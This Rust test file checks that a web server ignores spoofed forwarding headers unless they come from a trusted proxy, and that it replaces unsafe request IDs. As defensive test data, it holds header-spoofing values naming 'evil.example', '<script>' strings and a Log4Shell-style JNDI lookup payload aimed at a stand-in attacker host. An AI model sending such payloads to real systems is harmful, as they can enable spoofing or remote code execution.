//! Headers that say who asks, and for what: believed from nobody but a trusted proxy.

use super::*;

/// What a client, or a careless proxy, may claim.
const CLAIMS: [(&str, &str); 19] = [
    ("host", "evil.example"),
    ("forwarded", "for=6.6.6.6;host=evil.example;proto=https"),
    ("x-forwarded-for", "6.6.6.6"),
    ("x-forwarded-host", "evil.example"),
    ("x-forwarded-proto", "https"),
    ("x-forwarded-port", "443"),
    ("x-forwarded-prefix", "/evil"),
    ("x-forwarded-ssl", "on"),
    ("x-forwarded-scheme", "https"),
    ("x-real-ip", "6.6.6.6"),
    ("x-client-ip", "6.6.6.6"),
    ("true-client-ip", "6.6.6.6"),
    ("cf-connecting-ip", "6.6.6.6"),
    ("x-original-url", "/health/live"),
    ("x-rewrite-url", "/health/live"),
    ("x-original-uri", "/health/live"),
    ("x-http-method-override", "DELETE"),
    ("via", "1.1 evil.example"),
    ("front-end-https", "on"),
];

fn claiming(call: Call) -> Call {
    claiming_all_but("", call)
}

fn claiming_all_but(omitted: &str, mut call: Call) -> Call {
    for (name, value) in CLAIMS.into_iter().filter(|(name, _)| *name != omitted) {
        call = call.header(name, value);
    }
    call
}

async fn ip_of(browser: &Browser) -> String {
    browser.me().await.json()["session"]["ip"].as_str().unwrap().to_owned()
}

async fn login_claiming(app: &TestApp, omitted: &str) -> (Browser, Answer) {
    app.browser().register("ada").await;
    let login = OPERATIONS.iter().find(|row| row.path == "/api/auth/login").unwrap();
    let answer = app.send(claiming_all_but(omitted, login.call())).await;
    let mut ada = app.browser();
    ada.keep(&answer);
    (ada, answer)
}

#[tokio::test]
async fn a_client_changes_nothing_by_what_it_claims() {
    let app = TestApp::start().await;
    let (ada, login) = login_claiming(&app, "").await;
    assert_eq!(ada.claims()["iss"], app.origin);
    assert_eq!(ip_of(&ada).await, "127.0.0.1");
    for cookie in login.all("set-cookie") {
        assert!(cookie.starts_with("tandem-") && !cookie.contains("Secure"), "{cookie}");
        assert!(!cookie.contains("Domain") && !cookie.contains("evil"), "{cookie}");
    }
    for path in ["/api/auth/me", "/nothing", "/api/auth/login"] {
        let answer = app.send(claiming(Call::get(path))).await;
        let url = answer.json()["type"].as_str().unwrap().to_owned();
        assert!(url.starts_with(&format!("{}/problems/", app.origin)), "{url}");
        assert_eq!(answer.header("strict-transport-security"), None);
        assert_eq!(answer.header("location"), None);
    }
    let document = Call::get("/openapi.json");
    assert_eq!(app.send(claiming(document.clone())).await.body, app.send(document).await.body);
    let answer = ada.send(claiming(ada.with_access(Call::get("/api/auth/sessions")))).await;
    assert_eq!(answer.json()["sessions"].as_array().unwrap().len(), 1);
}

#[tokio::test]
async fn a_trusted_proxy_is_believed_about_the_address_and_nothing_else() {
    let trusted = TestConfig::default().set("server.trusted_proxies", "127.0.0.0/8");
    let app = TestApp::with(trusted).await;
    // One proxy sets one of the two; where both are there, one is the client's own.
    let (both, _) = login_claiming(&app, "").await;
    assert_eq!(ip_of(&both).await, "127.0.0.1");
    let (ada, login) = login_claiming(&app, "forwarded").await;
    assert_eq!(ip_of(&ada).await, "6.6.6.6");
    assert_eq!(ada.claims()["iss"], app.origin);
    assert!(login.all("set-cookie").iter().all(|cookie| !cookie.contains("Secure")));
    let answer = app.send(claiming(Call::get("/api/auth/me"))).await;
    answer.assert_refused(401, "unauthenticated");
    assert!(answer.json()["type"].as_str().unwrap().starts_with(&app.origin));
    // What stands further left was written by the client.
    for (header, value, ip) in [
        ("x-forwarded-for", "1.1.1.1, 2.2.2.2", "2.2.2.2"),
        ("x-forwarded-for", "1.1.1.1, 2.2.2.2, 127.0.0.9", "2.2.2.2"),
        ("forwarded", "for=1.1.1.1, for=\"[2001:db8::7]:4711\"", "2001:db8::7"),
        ("x-forwarded-for", "1.1.1.1, <script>", "127.0.0.1"),
        ("x-forwarded-for", "", "127.0.0.1"),
        ("x-real-ip", "6.6.6.6", "127.0.0.1"),
    ] {
        let login = OPERATIONS.iter().find(|row| row.path == "/api/auth/login").unwrap();
        let answer = app.send(login.call().header(header, value)).await;
        assert_eq!(answer.json()["session"]["ip"], ip, "{header}: {value}");
    }
}

#[tokio::test]
async fn a_request_id_is_kept_only_if_it_is_plain() {
    let app = TestApp::start().await;
    let id = |value: String| {
        let call = Call::get("/health/live").header("x-request-id", value);
        async { app.send(call).await.header("x-request-id").unwrap().to_owned() }
    };
    for plain in ["a", "01234567-89ab-cdef", "A.b_c-9", &"x".repeat(64)] {
        assert_eq!(id(plain.to_owned()).await, plain);
    }
    let mut seen = std::collections::BTreeSet::new();
    for other in [
        String::new(),
        "x".repeat(65),
        "a b".into(),
        "a\tb".into(),
        "<script>".into(),
        "a\"b".into(),
        "\u{e9}".into(),
        "a;b".into(),
        "a,b".into(),
        "${jndi:ldap://evil.example}".into(),
    ] {
        let answered = id(other.clone()).await;
        assert_ne!(answered, other);
        assert_eq!(answered.len(), 24, "{answered}");
        assert!(seen.insert(answered));
    }
}
